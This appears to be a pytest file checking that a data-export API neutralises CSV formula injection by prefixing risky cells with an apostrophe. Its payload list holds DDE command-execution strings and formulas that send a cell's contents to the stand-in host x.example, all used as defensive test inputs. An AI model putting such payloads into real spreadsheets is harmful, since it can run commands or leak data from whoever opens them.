"""No cell of an export for spreadsheets is taken for a formula, and each comes back as it was."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from bson import ObjectId

from api.core.context import Context
from api.core.keys import Keys
from api.exports.model import ExportFlavor, ExportFormat, Shape
from api.exports.writing import Writer
from api.imports import cells
from api.imports.model import ColumnRule
from tests.conftest import SECRET
from tests.imports.steps import csv_of, imported, text_of

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = ("", " ", "\u00a0", "\u200b", "\ufeff", "\u2060", "'", " \u200b")
PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?a="&A1,"click")', "+31612345678",
    "-2+3+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', '=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("http://x.example")',
    "first\n=1+1", "first\r\n@SUM(1)", "first\n +1", "first\r-1", "first\n\u00a0=1",
)  # fmt: skip
CELLS = (
    [before + sign + "1+1" for before in BEFORE for sign in SIGNS]
    + list(PAYLOADS)
    + [f" {one}" for one in PAYLOADS]
    + ["#REF!", "#N/A", "4.2E+11", "''=1"]
)
TARGETS = ("reference_id", "emails.address", "given_name", "date_of_birth")
HARMLESS = ("Anna", "O'Brien", "'t Hooft", "a=b", "3-4", "#1", "0612", "x\ny", "'", "''")


def written(flavor: ExportFlavor, values: list[str]) -> list[str]:
    docs: list[dict[str, Any]] = [{"_id": ObjectId(), "given_name": one, "family_name": "end"} for one in values]
    writer = Writer(Shape(("given_name", "family_name"), ExportFormat.CSV, flavor), {}, Keys(SECRET))
    data = (writer.begin() + writer.rows(docs, first=True)).decode("utf-8-sig")
    return [row[0] for row in csv.reader(io.StringIO(data, newline=""))][1:]


@pytest.mark.unit
def test_120_formulas_begin_with_an_apostrophe_and_come_back() -> None:
    assert len(CELLS) >= 120
    found = written(ExportFlavor.SPREADSHEET, CELLS)
    assert [one for one in found if not one.startswith("'")] == []
    assert [cells.unshielded(one) for one in found] == CELLS
    assert written(ExportFlavor.MACHINE, CELLS) == CELLS


@pytest.mark.unit
def test_what_is_harmless_stays_as_it_is() -> None:
    assert written(ExportFlavor.SPREADSHEET, list(HARMLESS)) == list(HARMLESS)


async def test_the_same_in_the_file_of_errors_of_an_import(ctx: Context) -> None:
    """What cannot be imported comes back in a file, and is no formula there either."""
    formulas = [one for one in CELLS if one not in {"#REF!", "#N/A", "4.2E+11"}]
    assert len(formulas) >= 110
    rows = [["", f"p{n}@planted.example", one, "no day"] for n, one in enumerate(formulas)]
    wanted = [(place, path, ColumnRule.FILL_EMPTY) for place, path in enumerate(TARGETS)]
    run = await imported(ctx, csv_of(["id", "email", "first name", "born"], *rows), wanted)
    assert run.outcome == {"INVALID": len(formulas)}
    whole = await text_of(ctx, run.details["error_file"])
    found = [row[2] for row in csv.reader(io.StringIO(whole, newline=""))][1:]
    assert [one for one in found if not one.startswith("'")] == []
    assert [cells.unsafe(one) for one in found] == formulas
    whole_rows = list(csv.reader(io.StringIO(whole, newline="")))
    assert [cell for row in whole_rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"}] == []


def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("There is no LibreOffice here.")
    docs: list[dict[str, Any]] = [{"_id": ObjectId(), "given_name": one} for one in CELLS]
    writer = Writer(Shape(("given_name",), ExportFormat.CSV, ExportFlavor.SPREADSHEET), {}, Keys(SECRET))
    (tmp_path / "cells.csv").write_bytes(writer.begin() + writer.rows(docs, first=True))
    subprocess.run(
        [office, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / "cells.csv")],
        check=True,
        timeout=100,
    )
    assert "table:formula" not in (tmp_path / "cells.fods").read_text()
